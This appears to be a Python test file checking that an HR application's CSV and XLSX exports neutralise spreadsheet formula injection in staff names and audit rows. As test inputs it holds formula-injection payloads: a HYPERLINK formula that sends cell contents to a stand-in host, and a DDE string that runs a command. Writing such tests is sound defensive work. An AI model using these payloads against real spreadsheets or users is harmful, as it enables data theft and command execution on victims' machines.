"""Issue 9: no export hands a spreadsheet a live formula, and one odd name never breaks an export.

A name beginning with = + - @ (or tab/CR) was written verbatim to CSV and as a formula to XLSX.
"""
import csv
import io
import zipfile

from openpyxl import load_workbook

from models.org import Staff
from tests.audit.test_audit_api import auditors  # noqa: F401 (fixture)

EVIL = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "+1+2", "-3+4", "@SUM(A1:A9)",
        "\t=1+1", "\r=1+1"]


def csv_rows(r):
    return list(csv.reader(io.StringIO(r.raw.content.decode("utf-8-sig"))))


def test_staff_export_csv_and_xlsx_neutralise_formulas(server, api, f, org):
    made = [f.staff(org.a_office, name) for name in EVIL]
    hr = api.as_(org.a_hr_officer)
    r = hr.get("/api/staff/export?format=csv")
    assert r.status == 200, r
    names = {row[1] for row in csv_rows(r)[1:]}
    for s in made:
        assert s.name not in names and "'" + s.name in names
    assert not any(n[:1] in "=+-@\t\r" for n in names)

    x = hr.get("/api/staff/export?format=xlsx")
    assert x.status == 200, x
    ws = load_workbook(io.BytesIO(x.raw.content)).active
    cells = [row[1] for row in ws.iter_rows(min_row=2)]
    values = {c.value for c in cells}
    assert {"'" + s.name for s in made if "\r" not in s.name} <= values  # XLSX stores CR escaped
    assert not any(str(v)[:1] in "=+-@\t\r" for v in values)
    assert all(c.data_type == "s" for c in cells)  # text, never "f" (formula)
    sheet = zipfile.ZipFile(io.BytesIO(x.raw.content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet


def test_a_control_character_already_stored_does_not_break_the_xlsx_export(server, api, f, org):
    """Input now refuses control characters; rows stored before still export."""
    bad = f.staff(org.a_office, "控制符")
    server.run(Staff.update(name="控\x0b制\x01符").where(Staff.id == bad.id).aexecute())
    r = api.as_(org.a_hr_officer).get("/api/staff/export?format=xlsx")
    assert r.status == 200, r
    ws = load_workbook(io.BytesIO(r.raw.content)).active
    assert "控制符" in {row[1].value for row in ws.iter_rows(min_row=2)}


def test_audit_export_neutralises_formulas(server, api, f, org, auditors):
    hr = api.as_(org.a_hr_officer)
    assert hr.patch(f"/api/staff/{org.fin_1.id}", {"name": "=1+2"}).status == 200
    r = api.as_(auditors[0]).get("/api/audit/export?format=csv&action=staff.update")
    assert r.status == 200
    for row in csv_rows(r)[1:]:
        assert not any(cell[:1] in "=+-@\t\r" for cell in row)


def test_leave_and_attendance_reports_neutralise_formulas(server, api, f, org):
    evil = f.staff(org.a_office, "@cmd|' /C calc'!A0")
    hr = api.as_(org.a_hr_officer)
    paths = ["/api/leave/report?year=2026&format=csv", "/api/attendance/report?month=2026-11&format=csv"]
    checked = 0
    for path in paths:
        r = hr.get(path)
        if r.status != 200 or "attachment" not in r.headers.get("Content-Disposition", ""):
            continue
        body = r.raw.content.decode("utf-8-sig")
        if evil.name in body:
            checked += 1
            assert "'" + evil.name in body
            assert not any(cell.startswith("@") for row in csv_rows(r) for cell in row)
    assert checked >= 1
